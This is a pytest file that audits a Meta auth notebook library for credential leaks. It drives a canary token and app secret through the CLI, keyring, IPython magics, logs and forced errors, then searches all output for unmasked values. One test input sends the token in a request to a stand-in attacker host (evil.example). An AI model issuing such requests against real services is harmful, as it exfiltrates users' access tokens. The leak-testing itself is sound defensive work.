"""Canary audit: one token and one app secret driven through every surface, then searched for.

Surfaces: the store on the real OS keyring, the CLI (login, inspect, check --json,
extend, profiles, logout --revoke), the magics and the panel in a real IPython
shell with the leak guard off (so raw output is searched), DataFrames, logging
at DEBUG everywhere, and forced errors at every layer. Then every captured
output, log record, exception text, widget state and file written (config
folder, temp dirs) is searched: the full values must appear nowhere.
The three notebooks, executed with widget state saved, are searched by
tests/notebooks (the kernel's sandbox makes its own tokens there).
"""

from __future__ import annotations

import io
import logging
import re
import sys
import traceback
from pathlib import Path

import pytest
from IPython.core.interactiveshell import InteractiveShell
from IPython.utils.capture import capture_output

import meta_auth_nb as mab
from meta_auth_nb import cli
from meta_auth_nb import errors as E
from meta_auth_nb.sandbox import Sandbox
from meta_auth_nb.store import TokenStore
from tests.conftest import FAST_RETRY
from tests.notebook.helpers import all_widget_states, paste_token

TOKEN_SHAPE = re.compile(r"EAA[A-Za-z0-9]{20,}")


def _exception_text(exc: BaseException) -> str:
    return "".join(traceback.format_exception(type(exc), exc, exc.__traceback__)) + repr(exc)


def _files_text(*folders: Path) -> str:
    chunks = []
    for folder in folders:
        for path in folder.rglob("*"):
            if path.is_file():
                chunks.append(path.read_bytes().decode("utf-8", "replace"))
    return "\n".join(chunks)


@pytest.fixture
def audit_env(tmp_path, monkeypatch, secret_service_keyring, secret_service):
    config = tmp_path / "xdg-config"
    monkeypatch.setenv("XDG_CONFIG_HOME", str(config))
    monkeypatch.setenv("PYTHON_KEYRING_BACKEND", "keyring.backends.SecretService.Keyring")
    monkeypatch.setenv("TMPDIR", str(tmp_path / "tmp"))
    (tmp_path / "tmp").mkdir()
    with Sandbox(seed=11) as box:
        for key, value in box.env().items():
            monkeypatch.setenv(key, value)
        yield box, config, tmp_path


def test_canary_token_and_secret_never_appear(audit_env, caplog, capsys, monkeypatch):
    box, config, tmp_path = audit_env
    canary = box.issue_token(user="alice", lifetime_s=3 * 86400)  # expiring: advice paths run too
    secret = box.app_secret
    texts: list[str] = []

    def cli_run(*argv: str, stdin: str = "") -> int:
        monkeypatch.setattr(sys, "stdin", io.StringIO(stdin))
        code = cli.main(list(argv))
        out = capsys.readouterr()
        texts.extend([out.out, out.err])
        return code

    with caplog.at_level(logging.DEBUG):
        # -- CLI and the store on the real keyring ---------------------------------------
        assert (
            cli_run(
                "login", "--profile", "audit", "--token-stdin", "--save-app-secret", "--no-extend", stdin=canary + "\n"
            )
            == 0
        )
        assert cli_run("inspect", "--profile", "audit", "--json") == 0
        assert cli_run("check", "--profile", "audit", "--json") == 1  # expiring soon
        assert cli_run("check", "--all") == 1
        assert cli_run("profiles", "--json") == 0
        assert cli_run("extend", "--profile", "audit") == 0
        extended = TokenStore().load("audit").token.get_secret_value()
        texts.append(repr(TokenStore().load("audit")))
        assert cli_run("logout", "--profile", "audit", "--revoke") == 0

        # -- magics and the panel ------------------------------------------------------
        second = box.issue_token(user="carol", lifetime_s=3600)
        shell = InteractiveShell.instance()
        shell.run_line_magic("load_ext", "meta_auth_nb")
        magics = shell.magics_manager.registry["MetaAuthMagics"]
        magics.store = TokenStore()
        magics.leak_guard = False  # search what the code itself prints, unmasked by the guard
        try:
            with capture_output() as captured:
                shell.run_cell("%meta_login --profile panel-audit --local")
            panel = magics.panel
            paste_token(panel, second)
            panel.extend_button.click()
            assert panel.wait_idle()
            panel.store_secret_box.value = True
            panel.app_secret_field.value = secret
            panel.save_button.click()
            assert panel.wait_idle(), panel.message_text
            with capture_output() as frames_out:
                shell.run_cell(
                    "tokens = %meta_tokens\nscopes = %meta_scopes --profile panel-audit\ndisplay(tokens)\nrepr(meta)"
                )
                shell.run_cell("%meta_logout --profile panel-audit")
            texts += [captured.stdout, captured.stderr, frames_out.stdout, frames_out.stderr]
            texts += [str(o.data) for o in captured.outputs + frames_out.outputs]
            texts += [panel.message_text, all_widget_states()]
        finally:
            if magics.panel is not None:
                magics.panel.close()
            shell.user_ns.pop("meta", None)

        # -- forced errors at every layer -------------------------------------------------
        failures: list[BaseException] = []
        opts = {"base_url": box.graph_url, "retry": FAST_RETRY}
        for action in (
            lambda: mab.GraphSession(canary, app_secret="0" * 32, **opts).get("me"),
            lambda: mab.GraphSession(canary, **opts).get(f"https://evil.example/x?access_token={canary}"),
            lambda: mab.exchange_code(
                "used-or-bad", app_id=box.app_id, app_secret=secret, redirect_uri="http://localhost:1/cb", **opts
            ),
            lambda: mab.extend_token(canary, app_id=box.app_id, app_secret=secret[::-1], **opts),
            lambda: mab.parse_redirect(f"http://localhost/cb?code={canary}&state=x", "y"),
            # wrong pastes: a token, another app's redirect, the dialog's own address (each says what to paste)
            lambda: mab.parse_redirect(canary, "y", redirect_uri="http://localhost:8765/callback"),
            lambda: mab.parse_redirect(
                f"https://other-app.example/cb?code={canary}&state=y",
                "y",
                redirect_uri="http://localhost:8765/callback",
            ),
            lambda: mab.parse_redirect(f"{box.dialog_url}/v27.0/dialog/oauth?client_id={secret}&state={canary}", "y"),
            lambda: mab.parse_redirect(
                f"http://localhost:8765/callback?error={canary}&error_description={secret}", "y"
            ),
            lambda: TokenStore().load("audit"),
            lambda: mab.AccessToken(canary + "\n" + secret),
        ):
            with pytest.raises(Exception) as info:
                action()
            failures.append(info.value)
        box.change_password("alice")
        with pytest.raises(E.TokenInvalidated) as invalid:
            mab.session(
                "nothing-stored-here", store=TokenStore(environ={"META_ACCESS_TOKEN": canary}), **opts
            ) if False else mab.GraphSession(canary, **opts).get("me")
        failures.append(invalid.value)
        texts += [_exception_text(f) for f in failures]

    out = capsys.readouterr()
    texts += [out.out, out.err, caplog.text] + [r.getMessage() for r in caplog.records]
    texts.append(_files_text(config, tmp_path / "tmp"))
    everything = "\n".join(texts)
    for value, name in (
        (canary, "token"),
        (extended, "extended token"),
        (second, "panel token"),
        (secret, "app secret"),
    ):
        where = everything.find(value)
        assert where < 0, f"the {name} leaked: ...{everything[max(0, where - 300) : where]!r}"
    assert canary[:4] + "\u2026" + canary[-4:] in everything  # masks are what people saw
    assert not TOKEN_SHAPE.search(everything), TOKEN_SHAPE.search(everything).group(0)[:8]
